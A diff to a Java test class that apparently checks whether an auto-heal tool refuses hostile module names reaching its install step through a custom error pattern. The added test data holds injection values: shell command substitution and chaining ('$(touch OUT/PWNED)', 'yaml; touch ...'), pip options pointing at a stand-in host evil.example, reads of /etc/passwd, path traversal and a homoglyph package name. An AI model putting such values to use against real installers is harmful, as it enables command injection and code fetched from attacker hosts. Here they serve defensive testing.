@@ -18,7 +18,9 @@ final class HostileCases {
     /** One config for the whole run: a deny list and a custom command strategy fed by a custom pattern. */
     static final String CONFIG = "{\"install\": {\"deny\": [\"evilpkg\"]}, \"strategies\": {\"clear_cache\":"
             + " {\"command\": [\"python3\", \"put.py\", \"{path}\"], \"touches\": [\"{path}\"]}}}";
-    static final String PATTERNS = "{\"CacheCorrupt\": {\"pattern\": \"cache (?<path>\\\\S+) is corrupt\", \"solution\": \"clear_cache\"}}";
+    static final String PATTERNS = "{\"CacheCorrupt\": {\"pattern\": \"cache (?<path>\\\\S+) is corrupt\", \"solution\": \"clear_cache\"},"
+            // hands install_module whatever follows, unchecked by the parser: the strategy's own validation must refuse
+            + " \"NeedModule\": {\"pattern\": \"NEED-MODULE (?<module>.+)$\", \"solution\": \"install_module\"}}";
     private static final String TB = "Traceback (most recent call last):\n  File \"app.py\", line 1, in <module>\n    import x\n";
 
     private HostileCases() {
@@ -62,6 +64,15 @@ final class HostileCases {
                 of("module: denied by config", missing("evilpkg"), REFUSED, "install.deny"),
                 of("module: node require of an option", "node:internal/modules/cjs/loader:1080\n  throw err;\n  ^\n\n"
                         + "Error: Cannot find module '--require=/etc/passwd'\nRequire stack:\n- /p/app.js\n", NOT_HEALED, null));
+    }
+
+    /** The same names through a custom pattern that passes them to install_module as they are. */
+    static List<Case> moduleNamesPastTheParser() {
+        List<String> names = List.of("--index-url=http://evil.example/simple", "-r /etc/passwd", "$(touch OUT/PWNED)",
+                "`touch OUT/PWNED`", "yaml; touch OUT/PWNED", "requests==0.0.1", "requests[socks]", "../../etc/passwd",
+                "http://evil.example/x.tar.gz", "-e .", "r\u0435quests", "a".repeat(150));
+        return names.stream().map(n -> of("pattern module: " + (n.length() > 40 ? n.length() + " chars" : n),
+                "NEED-MODULE " + n + "\n", REFUSED, "install_module")).toList();
     }
 
     /** Paths from error text that lead out of the roots, into AutoHeal's own files, or nowhere sane. */
